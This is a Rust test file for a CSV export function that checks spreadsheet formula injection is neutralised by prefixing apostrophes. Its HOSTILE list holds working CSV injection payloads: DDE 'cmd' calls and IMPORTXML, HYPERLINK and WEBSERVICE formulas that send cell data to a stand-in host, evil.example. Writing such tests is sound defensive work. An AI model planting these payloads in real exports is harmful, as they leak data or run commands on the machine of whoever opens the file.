//! The file as a spreadsheet reads it: every cell comes back as it was, in its place, and none of them is a formula.

use proptest::prelude::*;

use super::put_line;

/// What people might put into an answer to harm whoever opens the export.
const HOSTILE: [&str; 52] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"clicca\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\";CONCATENATE(A2:E2));\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "+1+1",
    "+393331234567",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- un elenco",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@utente",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\n=1+1",
    " =1+1",
    "   +1",
    "\u{A0}=1+1",
    "\u{3000}@x",
    "\u{200B}=1+1",
    "\u{FEFF}=1+1",
    " \u{200B} \t=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " ＝1+1",
    "\"",
    "\"\"",
    "\"=1+1\"",
    "a\";=1+1;\"b",
    "a\",=1+1,\"b",
    "a\"\r\n=1+1;\"b",
    "\";\"",
    ";",
    ",",
    ";=1+1",
    ",=1+1",
    "a;b,c\td",
    "prima\nseconda",
    "prima\r\nseconda\r\n",
    "'=1+1",
    "",
    " ",
    "<script>alert(1)</script>",
    "\u{202E}fdp.exe",
    "D'Àngelo, «però»",
    "👩\u{200D}🚒;🚒",
    "Țăranu €",
    "x\0y",
];

/// The cells that a reader finds.
fn read(text: &str, separator: u8) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .delimiter(separator)
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .deserialize()
        .collect::<Result<_, _>>()
        .unwrap()
}

fn written(cells: &[impl AsRef<str>]) -> String {
    let mut line = Vec::new();
    put_line(&mut line, cells);
    String::from_utf8(line).unwrap()
}

/// Whether a spreadsheet would run it, told in another way than the code under test does.
fn runs(cell: &str) -> bool {
    let visible = cell.trim_start_matches(|character: char| {
        character.is_whitespace() || "\"\u{200B}\u{FEFF}\u{2060}\u{AD}".contains(character)
    });
    visible.starts_with(['=', '+', '-', '@', '\0', '＝', '＋', '－', '＠'])
}

/// What is left of both where nothing but apostrophes was added.
fn spoken(cell: &str) -> String {
    cell.replace('\'', "")
}

/// Asserts that a row comes back, and that no separator makes a formula of it.
fn assert_harmless(cells: &[impl AsRef<str>]) {
    let line = written(cells);
    for separator in [b',', b'\t', b';'] {
        let found = read(&line, separator).concat();
        let formula = found.iter().find(|cell| runs(cell));
        assert_eq!(formula, None, "{:?}", char::from(separator));
    }
    let rows = read(&line, b';');
    assert_eq!((rows.len(), rows[0].len()), (1, cells.len()));
    for (cell, meant) in rows[0].iter().zip(cells) {
        assert_eq!(spoken(cell), spoken(meant.as_ref()));
    }
}

#[test]
fn hostile_cells_come_back_as_text_whatever_separates_cells() {
    assert_harmless(&HOSTILE);
    for one in HOSTILE {
        let parts = HOSTILE.map(|other| format!("racconto{one}{other}\n{other},{one}\t{other}"));
        assert_harmless(&parts);
    }
}

#[test]
fn an_apostrophe_stands_where_a_formula_would_begin_and_nowhere_else() {
    for (cell, written) in [
        ("=1", "'=1"),
        ("\t=1", "'\t'=1"),
        ("\ra", "'\ra"),
        ("a\n  ＝1", "a\n  '＝1"),
        ("a,-1; +2\t@b", "a,'-1; '+2\t'@b"),
    ] {
        assert_eq!(read(&self::written(&[cell]), b';'), [[written]]);
    }
    let same = [
        "1 = 1",
        "a-b",
        "x@esempio.it",
        "a, b; c",
        "l'una\nl'altra",
        "ＡＢ＝",
    ];
    assert_eq!(read(&written(&same), b';'), [same]);
}

/// metabase/metabase#42115, bireme/proethos2#677: Excel breaks a longer cell over the next row.
#[test]
fn no_cell_is_longer_than_excel_takes() {
    let read_one = |cell: &str| read(&written(&[cell]), b';').concat().concat();
    let units = |text: &str| text.encode_utf16().count();
    for whole in ["x".repeat(32_767), "🚒".repeat(16_383), "\"".repeat(32_767)] {
        assert_eq!(read_one(&whole), whole);
    }
    for word in ["perché ", "🚒🚒 ", "\"dice\"\n", "a,= ", "=1,", "x"] {
        let long = word.repeat(32_768);
        let cell = read_one(&long);
        assert!(units(&cell) <= 32_767, "{word:?}");
        let kept = cell.strip_suffix("… (continua nel pannello)").unwrap();
        // As much as fits, and no part of a word.
        assert!(units(kept) > 32_000, "{word:?}");
        assert!(spoken(&long).starts_with(&spoken(kept)), "{word:?}");
        let ends = spoken(kept).ends_with(word.trim_end());
        assert!(ends || !word.ends_with(char::is_whitespace), "{word:?}");
    }
}

proptest! {
    #[test]
    fn any_row_comes_back(cells in proptest::collection::vec("[=+@＝\t\r\n \",;'a\u{200B}-]{0,9}|.*", 1..9)) {
        assert_harmless(&cells);
    }
}
